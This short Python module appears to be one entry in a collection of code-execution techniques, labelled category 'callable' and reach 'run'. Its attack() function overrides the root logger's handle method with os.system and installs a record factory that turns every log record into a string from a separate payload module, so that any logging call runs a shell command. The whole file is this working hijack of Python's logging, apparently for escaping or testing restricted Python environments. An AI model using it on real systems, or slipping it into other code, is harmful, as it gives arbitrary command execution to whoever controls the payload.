"""A record is a command, and a logger's handle() a function of C."""
CATEGORY = "callable"
REACH = "run"

import logging
import os

from . import payload


class Record(str):
    levelno = logging.CRITICAL
    name = "root"

    def __new__(cls, *args):
        return str.__new__(cls, payload.COMMAND)

    def __init__(self, *args):
        pass


def attack():
    logging.getLogger().handle = os.system
    logging.setLogRecordFactory(Record)
